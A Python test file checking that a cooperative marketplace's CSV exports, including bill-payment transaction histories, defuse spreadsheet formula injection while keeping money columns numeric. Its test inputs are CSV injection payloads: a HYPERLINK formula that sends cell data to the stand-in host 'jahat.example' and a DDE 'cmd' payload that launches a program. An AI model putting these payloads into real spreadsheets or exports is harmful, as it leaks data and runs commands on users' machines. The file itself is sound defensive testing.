"""CSV exports cannot carry a spreadsheet formula (OWASP CSV injection): every text cell that
starts with = + - @ tab or CR is read as text, while money columns stay numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import httpx
import pytest

from catalog import service as catalog
from market.csvfile import to_csv
from market.models import Role
from ppob.biller import callback_signature
from ppob.models import Transaction, TxState
from tests.builders import login, make_user, token_for
from tests.ppob.conftest import fund_wallet, http, link, live, port, ppob_settings, world  # noqa: F401 (fixtures)

ATTACKS = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"klik")',
    "+62812",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def parse(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_text_cells_that_start_a_formula_are_read_as_text_and_numbers_stay_numbers():
    text = to_csv(
        [[a, 1] for a in ATTACKS] + [[-5_000, "-5000", None, date(2026, 1, 31), 'a,"b"\nc']], header=["sel", "angka"]
    )
    rows = parse(text)
    assert rows[0] == ["sel", "angka"]
    assert [r[0] for r in rows[1:-1]] == ["'" + a for a in ATTACKS]
    assert all(r[1] == "1" for r in rows[1:-1])
    # a computed negative amount is a number; the same characters typed as text are text
    assert rows[-1] == ["-5000", "'-5000", "", "2026-01-31", 'a,"b"\nc']
    # ordinary text is untouched
    assert parse(to_csv([["Beras Pandan Wangi 5 kg", "a=b", "x-1"]])) == [["Beras Pandan Wangi 5 kg", "a=b", "x-1"]]


def test_the_product_import_template_is_written_by_the_same_helper():
    assert parse(catalog.template_csv(), ";")[0][:3] == ["sku", "nama", "kategori"]
    assert catalog.template_csv() == to_csv(parse(catalog.template_csv(), ";"), delimiter=";")


async def test_ppob_history_csv_neutralises_what_the_biller_sent_and_keeps_a_negative_margin_a_number(
    live, http, world
):
    coop, member = world["coop"], world["members"][0]
    cashier = await make_user(Role.CASHIER, coop.id)
    headers = await token_for(cashier)
    price = next(
        p["price"]
        for p in (await http.get(f"/api/v1/cooperatives/{coop.id}/ppob/products", headers=headers)).json()
        if p["sku"] == "xld10"
    )
    # a cash sale the biller holds pending (numbers ending 10-19 wait)
    r = await http.post(
        f"/api/v1/cooperatives/{coop.id}/ppob/purchases",
        json={
            "sku": "xld10",
            "customer_no": "087812345612",
            "price": price,
            "pay_with": "cash",
            "member_id": member.id,
        },
        headers={**headers, "Idempotency-Key": "csv-injeksi-1"},
    )
    assert r.status_code == 201 and r.json()["state"] == "pending", r.text
    txn = r.json()
    # the biller's signed callback settles it with a formula for a serial number, at a price
    # above what we sold it for (so the cooperative's margin is negative)
    sn, message = '=HYPERLINK("http://jahat.example","Token")', "@SUM(1+1)"
    body = json.dumps(
        {
            "data": {
                "ref_id": txn["ref_id"],
                "customer_no": "087812345612",
                "buyer_sku_code": "xld10",
                "status": "Sukses",
                "rc": "00",
                "sn": sn,
                "message": message,
                "price": price + 700,
            }
        }
    ).encode()
    cb = await http.post(
        "/api/v1/ppob/biller/callback",
        content=body,
        headers={
            "X-Hub-Signature": callback_signature(link().biller.callback_secret, body),
            "content-type": "application/json",
        },
    )
    assert cb.status_code == 200 and cb.json()["result"] == "success", cb.text
    stored = await Transaction.get(id=txn["id"])
    assert stored.state == TxState.SUCCESS and stored.sn == sn and stored.margin < 0
    # the cooperative's CSV (page and API) and the member's own CSV
    _, _, base = live
    async with httpx.AsyncClient(base_url=base, timeout=30) as browser:
        assert (await login(browser, cashier.email)).status_code == 303
        page_csv = (await browser.get(f"/koperasi/{coop.id}/ppob.csv")).text
    api_csv = (await http.get(f"/api/v1/cooperatives/{coop.id}/ppob/transactions.csv", headers=headers)).text
    assert page_csv == api_csv
    member_user = await make_user(Role.MEMBER, coop.id, member.id)
    async with httpx.AsyncClient(base_url=base, timeout=30) as browser:
        assert (await login(browser, member_user.email)).status_code == 303
        member_csv = (await browser.get("/ppob/riwayat.csv")).text
    for text in (page_csv, member_csv):
        header, row = parse(text)
        cells = dict(zip(header, row, strict=True))
        assert cells["sn"] == "'" + sn
        assert cells["margin"] == str(stored.margin) and cells["margin"].startswith("-")  # still a number
        assert cells["harga_jual"] == str(price) and cells["kanal"] == "cash"
        assert cells["anggota_id"] == str(member.id) and cells["dibayar_oleh"] == str(cashier.id)
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\t1", "\r1"])
def test_every_dangerous_first_character_is_neutralised(value):
    assert parse(to_csv([[value]]))[0][0] == "'" + value
